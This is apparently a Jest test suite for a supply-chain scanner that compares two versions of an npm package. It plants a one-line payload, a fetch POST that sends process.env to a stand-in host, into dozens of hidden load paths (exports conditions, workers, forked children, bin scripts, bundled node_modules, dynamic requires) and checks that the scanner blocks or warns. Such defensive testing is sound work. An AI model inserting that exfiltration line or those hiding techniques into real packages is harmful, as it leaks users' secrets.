import { describe, expect, test } from '@jest/globals';
import type { JsonObject } from '../../src/core/json.js';
import { judgePair, type Judged } from './pair.js';

const payload = 'fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(process.env) });\n';
type Files = { readonly [path: string]: string };

const judged = (files: Files, manifest: JsonObject = {}, old: Files = {}, oldManifest: JsonObject = manifest): Promise<Judged> => judgePair({
  name: 'left',
  before: { version: '1.0.0', publishedAt: '2026-07-10T00:00:00.000Z', manifest: oldManifest, files: { 'index.js': 'module.exports = 1;\n', ...old } },
  after: { version: '1.0.1', publishedAt: '2026-11-20T00:00:00.000Z', manifest, files: { 'index.js': 'module.exports = 1;\n', ...files } },
});

describe('a payload where a reader may think that nothing runs', () => {
  test.each<readonly [string, Files, JsonObject?, Files?, JsonObject?]>([
    ['a text file as main', { 'LICENSE.txt': payload }, { main: 'LICENSE.txt' }, { 'LICENSE.txt': 'MIT\n' }],
    ['a text file that stood, which main now names', { 'LICENSE.txt': payload }, { main: 'LICENSE.txt' }, { 'LICENSE.txt': payload }, {}],
    ['main without an extension', { entry: payload }, { main: 'entry' }],
    ['a folder as main', { 'lib/index.js': payload }, { main: './lib' }],
    ...['bun', 'deno', 'workerd', 'react-native', 'development', 'browser', 'edge-light', 'node-addons', 'module-sync', 'electron', 'a condition of my own'].map((condition) => [`the exports condition ${condition}`, { 'other.js': payload }, { exports: { '.': { [condition]: './other.js', default: './index.js' } } }] as const),
    ['a condition inside a condition', { 'other.js': payload }, { exports: { '.': { node: { import: { development: './other.js' } }, default: './index.js' } } }],
    ['a list of fallbacks', { 'other.js': payload }, { exports: { '.': ['./missing.js', './other.js', './index.js'] } }],
    ['a subpath', { 'other.js': payload }, { exports: { '.': './index.js', './deep': './other.js' } }],
    ['an import of its own', { 'index.js': 'require("#inner");\n', 'inner.js': payload }, { imports: { '#inner': './inner.js' } }],
    ['a dependency alias of its own name', { 'index.js': 'require("left/inner");\n', 'inner.js': payload }, { exports: { '.': './index.js', './inner': './inner.js' } }],
    ['a worker by URL', { 'index.js': 'new Worker(new URL("./worker.mjs", import.meta.url));\n', 'worker.mjs': payload }, { type: 'module', exports: './index.js' }],
    ['a worker of Node', { 'index.js': 'const { Worker } = require("worker_threads"); new Worker(require("path").join(__dirname, "worker.js"));\n', 'worker.js': payload }, { exports: './index.js' }],
    ['a child of Node', { 'index.js': 'require("child_process").fork(require.resolve("./child.js"));\n', 'child.js': payload }, { exports: './index.js' }],
    ['a program that runs it with node', { 'index.js': 'require("child_process").spawn(process.execPath, [__dirname + "/child.js"]);\n', 'child.js': payload }, { exports: './index.js' }],
    ['createRequire', { 'index.js': 'import { createRequire } from "module"; createRequire(import.meta.url)("./inner.cjs");\n', 'inner.cjs': payload }, { type: 'module', exports: './index.js' }],
    ['a name by a template', { 'index.js': 'const part = "inner"; require(`./${part}.js`);\n', 'inner.js': payload }, { exports: './index.js' }],
    ['a name that is put together', { 'index.js': 'require(["./in", "ner"].join("") + ".js");\n', 'inner.js': payload }, { exports: './index.js' }],
    ['a name that nobody can know', { 'index.js': 'require(process.argv[2] || Date.now());\n', 'inner.js': payload }, { exports: './index.js' }],
    ['a dynamic import that nobody can know', { 'index.js': 'import(globalThis.x);\n', 'inner.mjs': payload }, { exports: './index.js' }],
    ['an extension of its own', { 'index.js': 'require("./inner.dat");\n', 'inner.dat': payload }, { exports: './index.js' }],
    ['a command', { 'cli.js': `#!/usr/bin/env node\n${payload}` }, { bin: 'cli.js', exports: './index.js' }],
    ['directories.bin', { 'tools/cli.js': `#!/usr/bin/env node\n${payload}` }, { directories: { bin: './tools' }, exports: './index.js' }],
    ['the field module', { 'esm.mjs': payload }, { main: 'index.js', module: 'esm.mjs' }],
    ['the field browser, as a map', { 'web.js': payload }, { main: 'index.js', browser: { './index.js': './web.js' } }],
    ['the field react-native', { 'native.js': payload }, { main: 'index.js', 'react-native': 'native.js' }],
    ['a package that the tarball carries', { 'index.js': 'require("inner");\n', 'node_modules/inner/package.json': '{"name":"inner","version":"1.0.0"}', 'node_modules/inner/index.js': payload }, { exports: './index.js' }],
    ['a folder with a manifest of its own', { 'index.js': 'require("./sub");\n', 'sub/package.json': '{"main":"deep.js"}', 'sub/deep.js': payload }, { exports: './index.js' }],
    ['a file that ran nowhere, and is loaded now', { 'index.js': 'require("./dormant.js");\n', 'dormant.js': payload }, { exports: './index.js' }, { 'dormant.js': payload }],
    ['a file that only waited for a caller, and is loaded now', { 'index.js': 'require("./dormant.js").go();\n', 'dormant.js': `exports.go = () => { ${payload} };\n` }, { exports: './index.js' }, { 'index.js': 'exports.x = () => require("./dormant.js").go();\n', 'dormant.js': `exports.go = () => { ${payload} };\n` }],
  ])('%s', async (_what, files, manifest = {}, old = {}, oldManifest = manifest) => {
    const { outcome, findings } = await judged(files, manifest, old, oldManifest);
    expect([outcome, findings.map((one) => `${one.check} ${one.severity}`)]).toEqual(['block', expect.anything()]);
  });
  // Whoever loads such a file names it by its path, or has bent the loader first: what it does is told, and the outcome is never a silent pass.
  test.each<readonly [string, Files, JsonObject?]>([
    ['a file that nothing names: without exports any file may be loaded by its path', { 'lib/quiet.js': payload }],
    ['JSON by its name, JavaScript by its loader', { 'index.js': 'require("module")._extensions[".json"](module, require.resolve("./data.json")); require.extensions[".json"] = require.extensions[".js"]; require("./data.json");\n', 'data.json': payload }],
    ['a pattern', { 'parts/other.js': payload }, { exports: { '.': './index.js', './parts/*': './parts/*.js' } }],
  ])('is told: %s', async (_what, files, manifest = {}) => {
    const { outcome, findings } = await judged(files, manifest);
    expect([outcome, findings.filter((one) => one.level === 'default').map((one) => one.severity)]).toEqual(['warn', expect.arrayContaining(['medium'])]);
  });
  test('what no way leads to is not told as if it ran', async () => {
    const { outcome } = await judged({ 'test/fixture.js': payload }, { exports: './index.js' });
    expect(outcome).not.toBe('block');
  });
});
